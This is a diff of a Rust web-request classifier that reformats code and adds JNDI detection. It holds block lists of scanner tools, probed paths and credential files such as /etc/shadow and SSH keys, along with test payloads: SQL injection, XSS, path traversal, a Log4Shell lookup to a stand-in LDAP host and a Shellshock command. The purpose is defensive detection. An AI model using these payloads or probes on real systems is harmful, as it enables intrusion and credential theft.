@@ -35,11 +35,18 @@ pub(crate) fn target(raw: &[u8]) -> Behaviours {
 pub(crate) fn header(raw: &[u8]) -> Behaviours {
     let text = lowered(raw);
     let mut found = Behaviours::NONE;
-    if text.starts_with(b"authorization: basic ") || text.starts_with(b"proxy-authorization: basic ") {
+    if text.starts_with(b"authorization: basic ")
+        || text.starts_with(b"proxy-authorization: basic ")
+    {
         found.insert(Behaviours::CLEARTEXT_CREDENTIALS);
         return found;
     }
-    if has(&text, b"${") || has(&text, b"() {") || has(&text, b"(){") || has(&text, b"%24%7b") {
+    if has(&text, b"jndi:")
+        || has(&text, b"${")
+        || has(&text, b"() {")
+        || has(&text, b"(){")
+        || has(&text, b"%24%7b")
+    {
         found.insert(code(&decoded(raw)));
     }
     // Cookies and referrers carry injected text as targets do.
@@ -61,28 +68,100 @@ pub(crate) fn agent(raw: &[u8]) -> Behaviours {
 }
 
 const SCANNERS: &[&[u8]] = &[
-    b"nikto", b"sqlmap", b"nmap scripting", b"masscan", b"zgrab", b"nessus", b"openvas", b"acunetix",
-    b"wpscan", b"dirbuster", b"gobuster", b"dirb ", b"feroxbuster", b"ffuf", b"wfuzz", b"nuclei",
-    b"arachni", b"w3af", b"skipfish", b"burpcollaborator", b"netsparker", b"whatweb", b"zmeu",
-    b"havij", b"jaeles", b"commix", b"morfeus", b"fimap", b"brutus", b"hydra", b"qualys",
-    b"hello, world", b"hello world", b"netsystemsresearch", b"censysinspect", b"expanse",
+    b"nikto",
+    b"sqlmap",
+    b"nmap scripting",
+    b"masscan",
+    b"zgrab",
+    b"nessus",
+    b"openvas",
+    b"acunetix",
+    b"wpscan",
+    b"dirbuster",
+    b"gobuster",
+    b"dirb ",
+    b"feroxbuster",
+    b"ffuf",
+    b"wfuzz",
+    b"nuclei",
+    b"arachni",
+    b"w3af",
+    b"skipfish",
+    b"burpcollaborator",
+    b"netsparker",
+    b"whatweb",
+    b"zmeu",
+    b"havij",
+    b"jaeles",
+    b"commix",
+    b"morfeus",
+    b"fimap",
+    b"brutus",
+    b"hydra",
+    b"qualys",
+    b"hello, world",
+    b"hello world",
+    b"netsystemsresearch",
+    b"censysinspect",
+    b"expanse",
 ];
 
 /// Paths that only somebody asks for who looks for holes.
 const PROBED: &[&[u8]] = &[
-    b"/phpmyadmin", b"/pma/", b"/wp-config", b"/.git/", b"/.env", b"/.svn/", b"/.aws/", b"/cgi-bin/",
-    b"/hnap1", b"/boaform", b"/setup.cgi", b"/shell?", b"/manager/html", b"/actuator/", b"/solr/admin",
-    b"/vendor/phpunit", b"/autodiscover/autodiscover.json?", b"/owa/auth/x.js", b"/remote/fgt_lang",
-    b"/gponform", b"/struts2", b"/jmx-console", b"/invoker/jmx", b"/axis2", b"/muieblackcat",
-    b"/xmlrpc.php?", b"/webdav/shell", b"/console/images/%252e", b"/_ignition/", b"/c99.php",
-    b"/r57.php", b"/ws_utc/", b"/wls-wsat/", b"/robots.txt.bak", b"/backup.sql", b"/dump.sql",
-    b"/web.config", b"/server-status", b"/phpinfo", b"/info.php", b"/administrator/components",
+    b"/phpmyadmin",
+    b"/pma/",
+    b"/wp-config",
+    b"/.git/",
+    b"/.env",
+    b"/.svn/",
+    b"/.aws/",
+    b"/cgi-bin/",
+    b"/hnap1",
+    b"/boaform",
+    b"/setup.cgi",
+    b"/shell?",
+    b"/manager/html",
+    b"/actuator/",
+    b"/solr/admin",
+    b"/vendor/phpunit",
+    b"/autodiscover/autodiscover.json?",
+    b"/owa/auth/x.js",
+    b"/remote/fgt_lang",
+    b"/gponform",
+    b"/struts2",
+    b"/jmx-console",
+    b"/invoker/jmx",
+    b"/axis2",
+    b"/muieblackcat",
+    b"/xmlrpc.php?",
+    b"/webdav/shell",
+    b"/console/images/%252e",
+    b"/_ignition/",
+    b"/c99.php",
+    b"/r57.php",
+    b"/ws_utc/",
+    b"/wls-wsat/",
+    b"/robots.txt.bak",
+    b"/backup.sql",
+    b"/dump.sql",
+    b"/web.config",
+    b"/server-status",
+    b"/phpinfo",
+    b"/info.php",
+    b"/administrator/components",
 ];
 
 /// Files that no page names.
 const SENSITIVE: &[&[u8]] = &[
-    b"/etc/passwd", b"/etc/shadow", b"/proc/self/", b"boot.ini", b"win.ini", b"/windows/system32/",
-    b"/web-inf/web.xml", b"/.ssh/id_", b"/.htpasswd",
+    b"/etc/passwd",
+    b"/etc/shadow",
+    b"/proc/self/",
+    b"boot.ini",
+    b"win.ini",
+    b"/windows/system32/",
+    b"/web-inf/web.xml",
+    b"/.ssh/id_",
+    b"/.htpasswd",
 ];
 
 /// `../` walks, also in disguise.
@@ -90,7 +169,11 @@ fn walk(text: &[u8]) -> Behaviours {
     let steps = count(text, b"../") + count(text, b"..\\") + count(text, b"..;/");
     let overlong = has(text, b"..%c0%af") || has(text, b"..%c1%9c") || has(text, b"%2e%2e%2f");
     let asks = SENSITIVE.iter().any(|path| has(text, path));
-    if steps >= 3 || overlong || asks || (steps >= 1 && (has(text, b"etc/") || has(text, b"windows"))) {
+    if steps >= 3
+        || overlong
+        || asks
+        || (steps >= 1 && (has(text, b"etc/") || has(text, b"windows")))
+    {
         Behaviours::PATH_TRAVERSAL
     } else {
         Behaviours::NONE
@@ -158,8 +241,10 @@ fn script(text: &[u8]) -> Behaviours {
 /// Shell, JNDI or template code.
 fn code(text: &[u8]) -> Behaviours {
     let has = |needle: &[u8]| has(text, needle);
-    let jndi = has(b"${jndi:")
-        || (has(b"${") && (has(b"${lower:") || has(b"${upper:") || has(b"${::-") || has(b"${env:")));
+    let jndi = (has(b"jndi:") && has(b"://"))
+        || has(b"${jndi:")
+        || (has(b"${")
+            && (has(b"${lower:") || has(b"${upper:") || has(b"${::-") || has(b"${env:")));
     let shock = has(b"() {") || has(b"(){ ") || has(b"() { :;}");
     let template = has(b"t(java.lang.runtime)")
         || has(b"java.lang.runtime")
@@ -300,7 +385,10 @@ mod tests {
     #[test]
     fn attacks_are_told_by_their_kind() {
         for (text, expected) in [
-            ("/item?id=1%27%20UNION/**/SELECT%20user,pass%20FROM%20users--", Behaviours::SQL_INJECTION),
+            (
+                "/item?id=1%27%20UNION/**/SELECT%20user,pass%20FROM%20users--",
+                Behaviours::SQL_INJECTION,
+            ),
             ("/login?u=admin'+or+'1'%3D'1", Behaviours::SQL_INJECTION),
             ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", Behaviours::CROSS_SITE_SCRIPTING),
             ("/s?q=%253Cscript%253E", Behaviours::CROSS_SITE_SCRIPTING),
@@ -310,7 +398,11 @@ mod tests {
             ("/..%2f..%2f..%2fsecret", Behaviours::PATH_TRAVERSAL),
             ("/phpMyAdmin/index.php", Behaviours::WEB_SCAN),
         ] {
-            assert!(target(text.as_bytes()).contains(expected), "{text}: {:?}", target(text.as_bytes()));
+            assert!(
+                target(text.as_bytes()).contains(expected),
+                "{text}: {:?}",
+                target(text.as_bytes())
+            );
         }
     }
 
@@ -334,10 +426,7 @@ mod tests {
 
     #[test]
     fn headers_tell_credentials_and_code() {
-        assert_eq!(
-            header(b"Authorization: Basic dXNlcjpwYXNz"),
-            Behaviours::CLEARTEXT_CREDENTIALS
-        );
+        assert_eq!(header(b"Authorization: Basic dXNlcjpwYXNz"), Behaviours::CLEARTEXT_CREDENTIALS);
         assert_eq!(header(b"X-Api-Version: ${jndi:ldap://a/b}"), Behaviours::REMOTE_CODE);
         assert_eq!(agent(b"() { :;}; /bin/bash -c id"), Behaviours::REMOTE_CODE);
         assert_eq!(agent(b"sqlmap/1.5 (https://sqlmap.org)"), Behaviours::WEB_SCAN);
